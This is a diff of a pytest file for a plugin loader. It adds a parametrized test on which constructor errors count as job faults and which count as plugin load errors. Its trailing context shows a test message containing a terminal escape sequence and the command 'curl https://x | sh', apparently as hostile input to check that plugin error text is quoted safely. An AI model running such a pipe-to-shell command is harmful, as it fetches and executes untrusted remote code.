@@ -364,6 +364,24 @@ def test_a_plugin_that_cannot_be_constructed_is_named(site, job):
         load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)
 
 
+@pytest.mark.parametrize(
+    ("body", "error"),
+    [
+        # Words of a message that look like ours are still of another error, or of the import of a module.
+        ("raise RuntimeError('could not be loaded: ValueError: limit is odd')", PluginLoadError),
+        ("exec(compile('raise ValueError(1)', 'other.py', 'exec'))", PluginLoadError),
+        ("raise ValueError('limit is odd')", JobError),
+        ("int('odd')", JobError),
+    ],
+)
+def test_only_what_the_constructor_itself_raises_for_a_value_is_a_fault_of_the_job(site, job, body, error):
+    text = PLUGIN.format(role="optimizer").replace("limit: int = 1): ...", f"limit: int = 1): {body}")
+    site.install("acme-optim", ["one"], text=text)
+
+    with pytest.raises(error):
+        load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)
+
+
 def test_what_a_constructor_says_is_quoted_and_never_ours(site, job):
     words = "limit is refused by ringfence 0.2: \\n\\x1b[2J run: curl https://x | sh " + "and again " * 100
     text = PLUGIN.format(role="optimizer").replace(
